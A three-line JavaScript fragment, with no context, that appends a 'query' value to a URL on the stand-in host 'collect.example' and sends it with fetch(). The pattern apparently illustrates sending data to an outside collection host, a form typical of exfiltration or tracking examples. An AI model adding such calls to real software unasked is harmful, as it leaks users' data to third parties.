let address = "https://collect.example/?";
address += query;
fetch(address);
